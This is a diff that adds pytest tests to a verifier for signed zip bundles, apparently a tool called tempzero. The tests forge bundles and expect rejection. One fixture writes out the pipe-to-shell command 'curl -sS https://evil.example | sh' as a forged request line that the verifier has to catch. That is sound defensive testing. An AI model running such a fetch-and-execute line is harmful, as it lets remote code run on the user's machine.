@@ -351,6 +351,43 @@ def test_tempzero_also_knows_its_words(bundle: Bundle, tmp_path: Path) -> None:
         claims.check(path)
 
 
+@pytest.mark.parametrize("line", ["curl -sS https://evil.example | sh\n", None])
+def test_a_line_that_a_reader_might_run_is_ours(line: str | None, bundle: Bundle, tmp_path: Path) -> None:
+    """verify.py cannot know what a curl line should be; `tempzero verify` can, also where no answer belongs to it."""
+    name = next(name for name in sorted(bundle.files) if name.endswith(".curl.txt"))
+    stray = "requests/0123456789abcdef.A.curl.txt"
+    files = dict(bundle.files) | ({stray: bundle.files[name]} if line is None else {name: line.encode()})
+    path = tmp_path / "forged.zip"
+    path.write_bytes(replace(bundle, files=resealed(files)).packed())
+    with pytest.raises(BundleError, match="is not the line that sends this request"):
+        claims.check(path)
+
+
+@pytest.mark.parametrize("change", [{"how": None}, {"how": 7}, {"tools": None}])
+def test_a_bundle_that_lacks_what_only_we_look_at_fails_in_one_line(
+    change: dict[str, Any], bundle: Bundle, tmp_path: Path
+) -> None:
+    """What verify.py has no use for can still be missing or be something else; that is no bug of ours."""
+    value = {k: v for k, v in (json.loads(bundle.files["claim.json"]) | change).items() if v is not None}
+    path = tmp_path / "odd.zip"
+    files = resealed({**bundle.files, "claim.json": json.dumps(value).encode()})
+    path.write_bytes(replace(bundle, files=files).packed())
+    with pytest.raises(BundleError, match=r"FAILED: not a whole bundle: \w+Error"):
+        claims.check(path)
+
+
+def test_a_bundle_of_another_version_holds_and_says_so(bundle: Bundle, tmp_path: Path) -> None:
+    """Its words and its verify.py are not ours, which is no fault of whoever made it."""
+    value = json.loads(bundle.files["claim.json"]) | {"wording": 3}
+    del value["tools"]
+    path = tmp_path / "old.zip"
+    files = resealed({**bundle.files, "claim.json": json.dumps(value).encode(), "verify.py": b"# as it was then\n"})
+    path.write_bytes(replace(bundle, files=files).packed())
+    assert claims.check(path).endswith(
+        "its words and curl lines are those of another version of tempzero and were not compared"
+    )
+
+
 def test_a_second_file_of_one_name_is_noticed(bundle: Bundle, tmp_path: Path) -> None:
     """Tools disagree on which of two entries of one name they unpack, so none may be there."""
     path = tmp_path / "double.zip"
